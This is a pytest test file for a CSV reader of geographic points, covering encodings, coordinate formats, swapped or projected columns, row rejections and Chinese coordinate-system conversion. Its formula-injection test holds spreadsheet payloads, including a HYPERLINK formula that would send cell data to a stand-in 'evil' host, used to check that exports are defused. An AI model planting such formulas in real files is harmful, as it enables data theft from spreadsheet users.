"""Point uploads (project / enterprise locations) from CSV: encodings, headers, degree formats,
table-level mistakes (swapped columns, projected metres), per-row rejections with every row
accounted for, hostile input, and GCJ-02 / BD-09 conversion checked against ``prcoords``."""
from __future__ import annotations

import io
import zipfile

import numpy as np
import pandas as pd
import prcoords
import pytest
from pyproj import Transformer

from geodata.errors import DataError, EmptyResultError, SchemaError, UnsafeInputError
from geodata.points import (
    MAX_CELL_CHARS,
    MAX_ROWS,
    PointTable,
    BadValue,
    parse_coordinate,
    read_points,
    safe_for_csv,
)

# Nanjing Jiangbei and around (WGS84 lon, lat)
NANJING = [(118.6283, 32.0937), (118.7251, 32.1804), (118.8019, 32.0603), (118.5512, 32.2466)]


def _csv(rows: list[list[str]], header: list[str]) -> str:
    buf = io.StringIO()
    pd.DataFrame(rows, columns=header).to_csv(buf, index=False)
    return buf.getvalue()


def _data_lines(table: PointTable) -> list[int]:
    return sorted(table.points["row"].tolist() + table.rejected["row"].tolist())


# --- encodings and headers -------------------------------------------------------------------


def test_gbk_file_with_chinese_headers():
    text = "编号,企业名称,经度,纬度,所属街道\nQ001,南京扬子石化,118.7251,32.1804,大厂街道\nQ002,江北新材料科技园,118.6283,32.0937,长芦街道\n"
    raw = text.encode("gbk")
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    t = read_points(raw, name="企业名单.csv")
    assert (t.lon_field, t.lat_field, t.id_field, t.name_field) == ("经度", "纬度", "编号", "企业名称")
    assert t.points.crs.to_epsg() == 4326
    assert list(t.points.columns) == ["point_id", "name", "row", "lon_input", "lat_input", "id_generated", "所属街道", "geometry"]
    assert t.points["point_id"].tolist() == ["Q001", "Q002"]
    assert t.points["name"].tolist() == ["南京扬子石化", "江北新材料科技园"]
    assert t.points["所属街道"].tolist() == ["大厂街道", "长芦街道"]
    assert t.points["row"].tolist() == [2, 3]
    assert t.points["lon_input"].tolist() == ["118.7251", "118.6283"]  # text as typed
    assert t.points.geometry.x.tolist() == [118.7251, 118.6283]
    assert t.points.geometry.y.tolist() == [32.1804, 32.0937]
    assert t.n_rejected == 0 and t.counts["points"] == 2 and t.counts["rows"] == 2
    assert "企业名单.csv: 2 rows read, 2 points, 0 rejected" in t.summary()


def test_utf8_bom_english_headers_any_case_and_units(tmp_path):
    text = "\ufeff ID ,Project Name,Longitude (deg), LAT ,Code2\nP-9,Wetland park,118.6283,32.0937,007\n"
    path = tmp_path / "projects.csv"
    path.write_bytes(text.encode("utf-8"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    # "project name" is not a name column (only name, 名称, 企业名称, 项目名称)
    t = read_points(path)
    assert (t.id_field, t.lon_field, t.lat_field, t.name_field) == ("id", "longitude (deg)", "lat", None)
    assert t.source == str(path)
    assert t.points["point_id"].tolist() == ["P-9"]
    assert t.points["code2"].tolist() == ["007"]  # text stays text: leading zeros kept
    assert t.points["project name"].tolist() == ["Wetland park"]


def test_explicit_fields_and_ambiguous_or_missing_columns():
    two_lons = "id,lon,lng,lat\n1,118.6,118.6,32.1\n"
    with pytest.raises(SchemaError) as ei:
        read_points(two_lons.encode(), name="two.csv")
    msg = str(ei.value)
    assert "two.csv" in msg and "['lon', 'lng']" in msg and "lon_field=" in msg
    t = read_points(two_lons.encode(), name="two.csv", lon_field="LNG")
    assert t.lon_field == "lng" and t.n_points == 1

    with pytest.raises(SchemaError) as ei:
        read_points("id,坐标,备注\n1,\"118.6,32.1\",x\n".encode(), name="combined.csv")
    msg = str(ei.value)
    assert "combined.csv" in msg and "no column for the longitude" in msg and "['id', '坐标', '备注']" in msg
    assert "'经度'" in msg and "split the combined column ['坐标']" in msg

    with pytest.raises(SchemaError, match="no column 'east'"):
        read_points(b"id,lon,lat\n1,118.6,32.1\n", name="a.csv", lon_field="east")

    with pytest.raises(SchemaError, match="repeats the column name"):
        read_points(b"ID,id,lon,lat\n1,2,118.6,32.1\n", name="a.csv")


# --- coordinate values -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, value, axis",
    [
        ("118.62", 118.62, None),
        (" 32.1 ", 32.1, None),
        ("118.62E", 118.62, "lon"),
        ("E118.62", 118.62, "lon"),
        ("32.5n", 32.5, "lat"),
        ("东经118.5", 118.5, "lon"),
        ("118.5W", -118.5, "lon"),
        ("118°37'12.5\"E", 118 + 37 / 60 + 12.5 / 3600, "lon"),
        ("32°5′3″N", 32 + 5 / 60 + 3 / 3600, "lat"),
        ("32°5'3''N", 32 + 5 / 60 + 3 / 3600, "lat"),
        ("118度37分12.5秒", 118 + 37 / 60 + 12.5 / 3600, None),
        ("118°37.5'", 118 + 37.5 / 60, None),
        ("118.62°", 118.62, None),
        ("118:37:12.5", 118 + 37 / 60 + 12.5 / 3600, None),
        ("-33°30'", -33.5, None),
        ("１１８．６２", 118.62, None),  # full-width digits from a Chinese IME
        ("39,500,000", 39_500_000.0, None),
    ],
)
def test_parse_coordinate(text, value, axis):
    got, got_axis = parse_coordinate(text)
    assert got == pytest.approx(value, abs=1e-12) and got_axis == axis


@pytest.mark.parametrize(
    "text, code, words",
    [
        ("", "missing_value", "blank"),
        ("abc", "malformed", "'abc' is not a number"),
        ("118°75'", "malformed", "60 or more"),
        ("118.5°30'", "malformed", "decimal degrees followed by minutes"),
        ("118,62", "malformed", "decimal separator"),
        ("-118E", "malformed", "sign and a hemisphere"),
        ("N32.1E", "malformed", "two hemisphere"),
        ("nan", "not_finite", "'nan' is not a finite number"),
        ("-inf", "not_finite", "finite"),
        ("1e400", "not_finite", "finite"),
        ("118 37 12", "malformed", "'118 37 12'"),
    ],
)
def test_parse_coordinate_rejects(text, code, words):
    with pytest.raises(BadValue) as ei:
        parse_coordinate(text)
    assert ei.value.code == code and words in ei.value.reason


def test_dms_file_and_malformed_values_rejected_with_the_value():
    text = (
        "id,lon,lat\n"
        "a,\"118°37'12.5\"\"E\",32°5′3″N\n"
        "b,118.62E,32.1N\n"
        "c,118°37'xx\",32.1\n"
        "d,32.1N,118.6E\n"
        "e,118.6,\n"
    )
    t = read_points(text.encode(), name="dms.csv")
    assert t.points["point_id"].tolist() == ["a", "b"]
    x, y = t.points.geometry.x.tolist(), t.points.geometry.y.tolist()
    assert x[0] == pytest.approx(118.620138889, abs=1e-9) and y[0] == pytest.approx(32.084166667, abs=1e-9)
    assert (x[1], y[1]) == (118.62, 32.1)
    rej = t.rejected.set_index("point_id")
    assert "'118°37'xx\"'" in rej.loc["c", "reason"] and rej.loc["c", "code"] == "malformed"
    assert "column 'lon'" in rej.loc["c", "reason"]
    assert rej.loc["d", "code"] == "wrong_hemisphere" and "'32.1N' is marked as a latitude" in rej.loc["d", "reason"]
    assert rej.loc["e", "reason"] == "column 'lat' is blank"
    assert rej.loc["e", "lon_input"] == "118.6"  # raw values kept


# --- table-level mistakes ----------------------------------------------------------------------


def test_swapped_columns_raise_not_silently_swapped():
    rows = [[str(i), f"{lat}", f"{lon}"] for i, (lon, lat) in enumerate(NANJING)]
    with pytest.raises(DataError) as ei:
        read_points(_csv(rows, ["id", "经度", "纬度"]).encode("gbk"), name="swapped.csv")
    msg = str(ei.value)
    assert "swapped.csv" in msg and "look swapped" in msg and "4 of 4 rows" in msg
    assert "lon_field='纬度', lat_field='经度'" in msg and "Fix:" in msg


def test_one_swapped_row_is_rejected_with_a_hint():
    rows = [[str(i), f"{lon}", f"{lat}"] for i, (lon, lat) in enumerate(NANJING)] + [["x", "32.1", "118.6"]]
    t = read_points(_csv(rows, ["id", "lon", "lat"]).encode(), name="one.csv")
    assert t.n_points == 4 and t.rejected["point_id"].tolist() == ["x"]
    reason = t.rejected["reason"].iloc[0]
    assert "latitude 118.6 in column 'lat' is outside -90..90" in reason and "swapped in this row?" in reason


@pytest.mark.parametrize(
    "epsg, zone_hint",
    [(4528, "3-degree zone number 40: CGCS2000 / 3-degree Gauss-Kruger zone 40 is EPSG:4528"), (4549, ""), (32650, "")],
)
def test_projected_metres_raise_with_the_fix(epsg, zone_hint):
    fwd = Transformer.from_crs(4326, epsg, always_xy=True)
    e, n = fwd.transform([p[0] for p in NANJING], [p[1] for p in NANJING])
    rows = [[str(i), f"{a:.3f}", f"{b:.3f}"] for i, (a, b) in enumerate(zip(e, n))]
    with pytest.raises(DataError) as ei:
        read_points(_csv(rows, ["id", "x", "y"]).encode(), name="metres.csv")
    msg = str(ei.value)
    assert "metres.csv" in msg and "these look like projected metres (e.g. CGCS2000 Gauss-Kruger)" in msg
    assert "Fix: convert them to longitude/latitude" in msg and "crs=" in msg and "EPSG:4549" in msg
    assert zone_hint in msg


@pytest.mark.parametrize("epsg", [4549, 32650])
def test_projected_values_with_crs_are_converted(epsg):
    fwd = Transformer.from_crs(4326, epsg, always_xy=True)
    e, n = fwd.transform([p[0] for p in NANJING], [p[1] for p in NANJING])
    rows = [[str(i), f"{a:,.3f}", f"{b:.3f}"] for i, (a, b) in enumerate(zip(e, n))]  # thousands commas as Excel
    t = read_points(_csv(rows, ["id", "easting", "northing"]).encode(), name="m.csv", crs=epsg)
    assert t.n_points == 4 and t.crs.startswith(f"EPSG:{epsg}")
    assert np.abs(t.points.geometry.x.to_numpy() - [p[0] for p in NANJING]).max() < 1e-7
    assert np.abs(t.points.geometry.y.to_numpy() - [p[1] for p in NANJING]).max() < 1e-7
    assert f"Converted from EPSG:{epsg}" in t.summary()


def test_chinese_survey_x_north_y_east_is_reported_as_swapped():
    fwd = Transformer.from_crs(4326, 4549, always_xy=True)
    e, n = fwd.transform([p[0] for p in NANJING], [p[1] for p in NANJING])
    rows = [[str(i), f"{b:.3f}", f"{a:.3f}"] for i, (a, b) in enumerate(zip(e, n))]  # X = north, Y = east
    with pytest.raises(DataError) as ei:
        read_points(_csv(rows, ["id", "X", "Y"]).encode(), name="survey.csv", crs=4549)
    msg = str(ei.value)
    assert "survey.csv" in msg and "easting and northing columns look swapped" in msg
    assert "lon_field='y', lat_field='x'" in msg
    t = read_points(_csv(rows, ["id", "X", "Y"]).encode(), name="survey.csv", crs=4549, lon_field="y", lat_field="x")
    assert t.n_points == 4


def test_degrees_read_with_a_projected_crs_raise():
    with pytest.raises(DataError) as ei:
        read_points(b"id,lon,lat\n1,118.6,32.1\n2,118.7,32.2\n", name="deg.csv", crs=4549)
    assert "deg.csv" in str(ei.value) and "look like longitude/latitude in degrees, not metres in EPSG:4549" in str(ei.value)


def test_crs_with_gcj02_is_refused():
    with pytest.raises(DataError, match="GCJ-02/BD-09 are lon/lat systems"):
        read_points(b"id,x,y\n1,500000,3550000\n", name="a.csv", crs=4549, coord_system="gcj02")


# --- per-row rejections, ids, accounting -------------------------------------------------------


def test_duplicates_keep_the_first_and_missing_ids_are_generated():
    text = (
        "编号,名称,经度,纬度\n"
        "A,一,118.60,32.10\n"
        ",二,118.61,32.11\n"
        "A,三,118.62,32.12\n"
        "B,四,118.63,32.13\n"
        "A,五,118.64,32.14\n"
        ",六,118.65,32.15\n"
        "P-0007,七,118.66,32.16\n"
        ",八,118.67,32.17\n"
    )
    t = read_points(text.encode("gb18030"), name="dup.csv")
    assert t.points["point_id"].tolist() == ["A", "P-0003", "B", "P-0007-2", "P-0007", "P-0009"]
    assert t.points["id_generated"].tolist() == [False, True, False, True, False, True]
    assert t.rejected["reason"].tolist() == ["duplicate id A (first at row 2)", "duplicate id A (first at row 2)"]
    assert t.rejected["row"].tolist() == [4, 6] and t.rejected["name"].tolist() == ["三", "五"]
    assert t.rejected["code"].tolist() == ["duplicate_id"] * 2
    assert t.counts["ids_generated"] == 3 and t.counts["rejected_duplicate_id"] == 2
    assert "were given P-<line> ids" in t.summary()
    assert t.points["point_id"].is_unique


def test_no_id_column_generates_all_ids():
    t = read_points(b"lon,lat\n118.6,32.1\n118.7,32.2\n", name="noid.csv")
    assert t.id_field is None
    assert t.points["point_id"].tolist() == ["P-0002", "P-0003"] and t.points["id_generated"].all()


def test_blank_rows_and_every_row_accounted_for():
    text = (
        "\n"  # a blank line above the header (line 1)
        "id,name,lon,lat,note\r\n"  # header on line 2
        "1,a,118.6,32.1,ok\r\n"
        "\r\n"
        ",,,,\r\n"
        "2,b,118.7,32.2,\"two\r\nlines\"\r\n"  # a record over lines 6-7
        "3,c,,32.2,\r\n"
        "4,d,118.7,32.2,x,y\r\n"  # an extra value
        "5,e,118.7,32.2,,\r\n"  # a trailing comma: fine
        "6,f,118.7\r\n"  # short row: padded, then lat blank
        "7,g,500,32.2,\r\n"
        "8,h,-118.7,32.2,\r\n"
        "9,i,118.7,32.2,=HYPERLINK(\"http://x\")\r\n"
    )
    t = read_points(text.encode("utf-8-sig"), name="messy.csv")
    assert t.n_rows == 11
    assert t.n_points + t.n_rejected == t.n_rows
    assert _data_lines(t) == [3, 4, 5, 6, 8, 9, 10, 11, 12, 13, 14]  # line 7 is the second half of row 6
    assert t.points["point_id"].tolist() == ["1", "2", "5", "9"]
    assert t.points.set_index("point_id").loc["2", "note"] == "two\r\nlines"
    codes = dict(zip(t.rejected["row"], t.rejected["code"]))
    assert codes == {4: "blank_row", 5: "blank_row", 8: "missing_value", 9: "extra_fields", 11: "missing_value", 12: "out_of_range", 13: "outside_bounds"}
    reasons = dict(zip(t.rejected["row"], t.rejected["reason"]))
    assert reasons[4] == "the row is blank"
    assert "6 fields but the header has 5" in reasons[9] and "'y'" in reasons[9]
    assert reasons[11] == "column 'lat' is blank"
    assert reasons[12] == "longitude 500 in column 'lon' is outside -180..180"
    assert "point (-118.7, 32.2) lies outside China (lon 73-136, lat 3-54); check the sign" in reasons[13]
    assert "11 rows read, 4 points, 7 rejected (2 blank row, 1 extra fields, 2 missing value" in t.summary()
    assert sum(v for k, v in t.counts.items() if k.startswith("rejected_")) == t.n_rejected


def test_all_rows_rejected_still_returns_the_table():
    t = read_points(b"id,lon,lat\n1,abc,32\n2,,\n", name="bad.csv")
    assert t.n_points == 0 and t.n_rejected == 2 and list(t.points.columns)[:3] == ["point_id", "row", "lon_input"]
    assert t.points.crs.to_epsg() == 4326


def test_input_columns_named_like_outputs_are_renamed():
    t = read_points(b"id,lon,lat,row,geometry\n1,118.6,32.1,r1,g1\n", name="a.csv")
    assert t.points["row"].tolist() == [2]
    assert t.points["row_input"].tolist() == ["r1"] and t.points["geometry_input"].tolist() == ["g1"]
    assert any("kept as 'row_input'" in n for n in t.notes)


# --- formula injection ---------------------------------------------------------------------------


def test_formulas_are_kept_as_text_and_defused_for_export():
    text = 'id,name,lon,lat,note\n=1+2,@SUM(A1),118.6,32.1,"=HYPERLINK(""http://evil/?""&A1)"\n2,-12.5,118.7,32.2,+cmd\n'
    t = read_points(text.encode(), name="f.csv")
    assert t.points["point_id"].tolist() == ["=1+2", "2"]  # the upload is not altered
    safe = safe_for_csv(t.points)
    assert safe["point_id"].tolist() == ["'=1+2", "2"]
    assert safe["name"].tolist() == ["'@SUM(A1)", "-12.5"]  # a plain negative number is not a formula
    assert safe["note"].tolist() == ["'=HYPERLINK(\"http://evil/?\"&A1)", "'+cmd"]
    assert safe["row"].tolist() == [2, 3] and t.points["point_id"].iloc[0] == "=1+2"  # a copy
    exported = pd.DataFrame(safe.drop(columns="geometry")).to_csv(index=False)
    assert not any(line.startswith(("=", "+", "@")) for line in exported.splitlines())


# --- hostile input -----------------------------------------------------------------------------


def test_too_large_bytes_and_file(tmp_path):
    big = b"id,lon,lat\n" + b"1,118.6,32.1\n" * 500_000  # 6.5 MB
    with pytest.raises(UnsafeInputError) as ei:
        read_points(big, name="big.csv")
    msg = str(ei.value)
    assert "big.csv" in msg and "over the limit of 5.0 MiB" in msg and "Fix: split it into smaller files" in msg
    path = tmp_path / "big.csv"
    path.write_bytes(big)
    with pytest.raises(UnsafeInputError, match="over the limit"):
        read_points(path)
    with pytest.raises(UnsafeInputError, match="over the limit of 100 bytes"):
        read_points(big[:200], name="s.csv", max_bytes=100)


def test_too_many_rows():
    data = b"id,lon,lat\n" + b"1,118.6,32.1\n" * (MAX_ROWS + 1)
    with pytest.raises(UnsafeInputError) as ei:
        read_points(data, name="rows.csv")
    assert "rows.csv" in str(ei.value) and "more than 50,000 data rows" in str(ei.value) and "Fix: split" in str(ei.value)
    assert read_points(b"id,lon,lat\n" + b"1,118.6,32.1\n" * 3, name="r.csv", max_rows=3).n_rows == 3
    with pytest.raises(UnsafeInputError, match="more than 2 data rows"):
        read_points(b"id,lon,lat\n" + b"1,118.6,32.1\n" * 3, name="r.csv", max_rows=2)


def _xlsx_like() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
    return buf.getvalue()


@pytest.mark.parametrize(
    "data, words",
    [
        (_xlsx_like(), "Excel .xlsx workbook"),
        (b"PK\x05\x06" + b"\0" * 18, "zip archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "Excel 97-2003 .xls"),
        ("id,lon,lat\n1,118.6,32.1\n".encode("utf-16"), "UTF-16"),
        (b"id,lon,lat\n1,118.6,32.1\x00\x00\n", "NUL bytes (the first at byte 23)"),
        (bytes(range(256)) * 4, "NUL bytes"),
    ],
)
def test_binary_files_given_as_csv(data, words):
    with pytest.raises(DataError) as ei:
        read_points(data, name="points.csv")
    msg = str(ei.value)
    assert "points.csv" in msg and words in msg
    assert "Fix: open it in Excel and save it with File > Save As > 'CSV UTF-8 (Comma delimited) (*.csv)'" in msg


@pytest.mark.parametrize(
    "data, words",
    [
        (b"", "the file is empty"),
        (b"  \r\n\n", "the file is empty"),
        (b"id,lon,lat\n", "has a header row (line 1) but no data rows"),
        (b"id,lon,lat\n\n,,\n", "its 2 data rows are blank"),
    ],
)
def test_empty_files(data, words):
    with pytest.raises(EmptyResultError) as ei:
        read_points(data, name="empty.csv")
    assert "empty.csv" in str(ei.value) and words in str(ei.value) and "Fix: " in str(ei.value)


def test_long_cells_reject_the_row_and_huge_cells_refuse_the_file():
    long = "x" * (MAX_CELL_CHARS + 1)
    t = read_points(f"id,lon,lat,note\n1,118.6,32.1,{long}\n2,118.7,32.2,{'y' * MAX_CELL_CHARS}\n".encode(), name="l.csv")
    assert t.points["point_id"].tolist() == ["2"]
    assert t.rejected["reason"].tolist() == [f"column 'note' holds {MAX_CELL_CHARS + 1:,} characters (limit {MAX_CELL_CHARS:,})"]
    assert t.rejected["code"].tolist() == ["too_long"]
    assert t.rejected["note"].iloc[0].endswith(f"… [{MAX_CELL_CHARS + 1:,} characters]") and len(t.rejected["note"].iloc[0]) < 300
    huge = "id,lon,lat,note\n1,118.6,32.1,\"" + "z" * 300_000 + "\"\n"
    with pytest.raises(UnsafeInputError, match="longer than"):
        read_points(huge.encode(), name="h.csv")


def test_unbalanced_quote_is_an_error_not_a_swallowed_file():
    with pytest.raises(DataError) as ei:
        read_points(b'id,lon,lat,note\n1,118.6,32.1,"open\n2,118.7,32.2,x\n', name="q.csv")
    assert "q.csv" in str(ei.value) and "cannot be parsed as CSV" in str(ei.value) and "quotes must be closed" in str(ei.value)


def test_semicolon_and_tab_separated():
    assert read_points(b"id;lon;lat\n1;118.6;32.1\n", name="s.csv").n_points == 1
    assert read_points(b"id\tlon\tlat\n1\t118.6\t32.1\n", name="t.csv").n_points == 1


# --- GCJ-02 / BD-09 against an independent implementation ---------------------------------------


def test_gcj02_conversion_agrees_with_prcoords():
    gcj = [prcoords.wgs_gcj((lat, lon)) for lon, lat in NANJING]
    text = "id,lng,lat\n" + "".join(f"{i},{c.lon!r},{c.lat!r}\n" for i, c in enumerate(gcj))
    t = read_points(text.encode(), name="amap.csv", coord_system="gcj02")
    assert t.coord_system == "gcj02" and "Converted from GCJ-02 to WGS84" in t.summary()
    x, y = t.points.geometry.x.to_numpy(), t.points.geometry.y.to_numpy()
    # back to where prcoords started, and to prcoords' own inverse
    assert np.abs(x - [p[0] for p in NANJING]).max() < 1e-6 and np.abs(y - [p[1] for p in NANJING]).max() < 1e-6
    inv = [prcoords.gcj_wgs_bored(c) for c in gcj]
    assert np.abs(x - [c.lon for c in inv]).max() < 1e-6 and np.abs(y - [c.lat for c in inv]).max() < 1e-6
    # and the shift really happened (GCJ-02 is hundreds of metres off in Nanjing)
    assert np.abs(np.array([c.lon for c in gcj]) - x).min() > 1e-3
    assert t.points["lon_input"].tolist() == [repr(c.lon) for c in gcj]


def test_bd09_conversion_agrees_with_prcoords():
    bd = [prcoords.wgs_bd((lat, lon)) for lon, lat in NANJING]
    text = "id,lon,lat\n" + "".join(f"{i},{c.lon!r},{c.lat!r}\n" for i, c in enumerate(bd))
    t = read_points(text.encode(), name="baidu.csv", coord_system="bd09")
    x, y = t.points.geometry.x.to_numpy(), t.points.geometry.y.to_numpy()
    assert np.abs(x - [p[0] for p in NANJING]).max() < 1e-6 and np.abs(y - [p[1] for p in NANJING]).max() < 1e-6
    inv = [prcoords.bd_wgs_bored(c) for c in bd]
    assert np.abs(x - [c.lon for c in inv]).max() < 1e-6 and np.abs(y - [c.lat for c in inv]).max() < 1e-6


def test_unknown_coordinate_system():
    with pytest.raises(DataError) as ei:
        read_points(b"id,lon,lat\n1,118.6,32.1\n", name="a.csv", coord_system="mars")
    assert "a.csv" in str(ei.value) and "'wgs84', 'gcj02', 'bd09'" in str(ei.value)
